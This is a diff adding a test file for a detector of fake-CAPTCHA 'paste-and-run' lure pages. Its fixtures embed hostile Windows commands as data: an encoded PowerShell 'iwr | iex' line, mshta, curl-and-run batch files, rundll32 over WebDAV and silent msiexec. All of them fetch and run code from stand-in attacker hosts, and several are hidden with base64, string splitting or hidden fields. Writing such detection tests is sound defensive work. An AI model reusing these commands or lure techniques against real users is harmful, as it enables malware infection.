@@ -1,0 +1,69 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { cpuGrowth } from '../../test-support/growth.js';
+import { clipboardCommand, pageWords } from './clipboard.js';
+import { analyzeHtml } from './index.js';
+
+const LIMITS = { maxPayloadBytes: 1 << 20 };
+const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
+const ENC = Buffer.from('iex (iwr "https://verify-cdn.top/c.ps1").Content', 'utf16le').toString('base64');
+const page = (body: string): string => `<!DOCTYPE html><html><head><title>Page</title></head><body>${body}</body></html>`;
+const STEPS_EN = '<p>To verify you are human: 1. Press <kbd>Windows</kbd> + <kbd>R</kbd> 2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd> 3. Press Enter</p>';
+
+/**
+ * The paste-and-run lure as a page (session 18): the command the page copies (clipboardCommand, the strong sign) and the
+ * words that say where to paste it (pasteAndRun, the weaker one); and pages that copy or say something else.
+ */
+const rows: [name: string, html: string, copies: boolean, instructs: boolean][] = [
+  ['writeText of a PowerShell -enc line', page(`${STEPS_EN}<script>navigator.clipboard.writeText("powershell -w hidden -enc ${ENC}")</script>`), true, true],
+  ['execCommand copy of a hidden textarea holding mshta https://…', page(`<textarea id="t" style="display:none">mshta https://cdn-verify.top/x.hta</textarea><script>var t=document.getElementById('t');t.select();document.execCommand('copy');</script>`), true, false],
+  ['a hidden input\'s value (entities) copied by execCommand', page(`<input type="hidden" id="i" value="cmd /c curl -s https://x.top/a.bat -o %TEMP%\\a.bat &amp;&amp; %TEMP%\\a.bat"><script>document.getElementById("i").select();document.execCommand("copy")</script>`), true, false],
+  ['a command assembled from atob', page(`<script>const c = atob("${b64('powershell -NoP -c "irm https://verify.top/v | iex"')}"); navigator.clipboard.writeText(c);</script>`), true, false],
+  ['the whole command line base64 in a variable, no atob named', page(`<script>var k = '${b64('mshta https://verify.top/c')}'; navigator.clipboard.writeText(window['at' + 'ob'](k));</script>`), true, false],
+  ['pieces joined with + and an array join', page(`<script>var p = ['pow', 'ershell -c "iwr https://v.top/s.ps1', ' | iex"'].join(''); navigator.clipboard.writeText('' + p);</script>`), true, false],
+  ['clipboardData.setData of a curl | iex line', page(`<script>document.addEventListener('copy', function(e){ e.clipboardData.setData('text/plain', "curl.exe -s https://v.top/p | iex"); e.preventDefault(); });</script>`), true, false],
+  ['rundll32 of a WebDAV share', page(`<script>navigator.clipboard.writeText("rundll32 \\\\\\\\share.v.top@SSL\\\\dav\\\\a.dll,Entry")</script>`), true, false],
+  ['msiexec /i of a web address', page(`<script>navigator.clipboard.writeText('msiexec /q /i https://v.top/setup.msi')</script>`), true, false],
+  ['the instructions in German, the command not readable', page('<p>Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie Windows-Taste + R, dann Strg + V und die Eingabetaste.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
+  ['the instructions in French written by script (<kbd> in a literal)', page('<div id="m"></div><script>document.getElementById("m").innerHTML = "Pour vérifier que vous êtes humain : appuyez sur <kbd>touche Windows</kbd> + <kbd>R</kbd>, collez avec Ctrl + V puis Entrée.";</script>'), false, true],
+  ['the instructions with character references (&#43;)', page('<p>I am not a robot &mdash; verification steps: press Win&#43;R, press Ctrl&#43;V, press Enter.</p>'), false, true],
+  // Must not.
+  ['a documentation page: copy buttons on code samples (no download run)', page('<pre id="a">pip install requests</pre><pre id="b">git clone https://github.com/psf/requests.git</pre><pre>powershell -ExecutionPolicy Bypass -File .\\build.ps1</pre><script>function c(id){navigator.clipboard.writeText(document.getElementById(id).innerText)}</script>'), false, false],
+  ['a literal sample copied: npm install', page(`<script>navigator.clipboard.writeText('npm install --save left-pad')</script>`), false, false],
+  ['a coupon page that copies its code', page(`<h1>SAVE20</h1><p>Paste it at checkout with Ctrl+V.</p><button onclick="navigator.clipboard.writeText('SAVE20-NW-2291')">Copy</button>`), false, false],
+  ['a security article describing the trick with "never"', page('<p>Fake CAPTCHA pages ask you to verify you are human: press Windows key + R, paste with Ctrl + V and press Enter. Never do this: the clipboard holds <code>powershell -enc ' + ENC + '</code>.</p>'), false, false],
+  ['a command line in the text but no clipboard script', page(`<pre>powershell -c "irm https://get.example.org/install.ps1 | iex"</pre><script>console.log(1)</script>`), false, false],
+  ['an IT how-to: Win+R and paste a path, no verification', page('<p>Press Win+R, paste \\\\fileserver\\team with Ctrl+V and press Enter.</p>'), false, false],
+];
+
+for (const [name, html, copies, instructs] of rows) {
+  test(`paste-and-run page: ${name}`, () => {
+    const facts = analyzeHtml(html, LIMITS);
+    assert.equal(facts.clipboardCommand !== undefined, copies, `clipboardCommand: ${facts.clipboardCommand}`);
+    assert.equal(facts.pasteAndRun !== undefined, instructs, `pasteAndRun: ${facts.pasteAndRun}`);
+  });
+}
+
+test('paste-and-run page: the command is what is reported, the PowerShell -enc line read', () => {
+  const command = clipboardCommand(page(`<script>navigator.clipboard.writeText("powershell -w hidden -enc ${ENC}")</script>`));
+  assert.match(command ?? '', /^powershell -w hidden -enc /);
+});
+
+test('paste-and-run page: a page written from an encoded string is read too', () => {
+  const inner = `${STEPS_EN}<script>navigator.clipboard.writeText("mshta https://v.top/a")</script>`;
+  const facts = analyzeHtml(`<html><body><script>document.write(atob("${b64(page(inner))}"))</script></body></html>`, LIMITS);
+  assert.match(facts.clipboardCommand ?? '', /^mshta https:\/\/v\.top\/a/);
+  assert.ok(facts.pasteAndRun);
+});
+
+test('paste-and-run page: linear in the page (quotes, tags, references, launchers repeated)', () => {
+  const units = [
+    `"a" + 'b' + `, `'`, `"`, '`', '<textarea>', '<input value="', '<a ', '&#43;', '+ <b>', 'powershell ', 'cmd /c ', 'curl x ',
+    `navigator.clipboard.writeText('powershell x') `, 'execCommand("copy") mshta ', 'QUJD', 'win + r ctrl + v ',
+  ];
+  for (const unit of units) {
+    const make = (n: number): string => `<script>navigator.clipboard.writeText(x)</script>${unit.repeat(Math.ceil(n / unit.length))}`;
+    const ratio = cpuGrowth(make, (html) => { analyzeHtml(html, LIMITS); clipboardCommand(html); pageWords(html); }, 3_000);
+    assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the page took ${ratio.toFixed(1)}× the CPU`);
+  }
+});
